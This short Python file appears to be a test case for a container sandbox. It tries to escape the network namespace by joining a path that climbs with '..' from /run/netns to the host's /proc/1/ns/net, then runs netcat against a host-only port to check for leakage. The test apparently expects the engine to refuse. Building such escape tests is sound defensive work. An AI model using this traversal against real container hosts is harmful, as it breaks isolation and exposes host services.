"""A path that begins like an engine's name for a network namespace leads, by `..`, to the host's."""

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("namespace-network")


def attack(t):
    port = t.speak()[1]
    t.sh("mkdir /run/netns/netns-x")
    t.join("network", "/run/netns/netns-x/../../../proc/1/ns/net")
    return t.leaked(t.run("nc 127.0.0.1 %d" % port))
